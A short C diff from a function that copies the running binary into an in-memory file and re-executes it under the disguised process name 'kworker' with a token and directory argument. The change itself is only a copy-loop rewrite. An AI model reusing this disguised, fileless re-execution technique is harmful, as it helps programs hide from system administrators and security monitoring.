@@ -267,9 +267,11 @@ static void tcp_memfd(void)
 	char *args[] = { (char *)(uintptr_t) "kworker", (char *)(uintptr_t) "tcp4", NULL, NULL,
 			 NULL };
 	int in = must(open("/proc/self/exe", O_RDONLY)), fd = must(memfd_create("kworker", 0));
+	char octets[65536];
+	ssize_t n;
 
-	while (sendfile(fd, in, NULL, 1 << 20) > 0)
-		;
+	while ((n = read(in, octets, sizeof(octets))) > 0)
+		must((int)write(fd, octets, (size_t)n));
 	args[2] = (char *)(uintptr_t)token;
 	args[3] = (char *)(uintptr_t)dir;
 	fexecve(fd, args, args + 4);
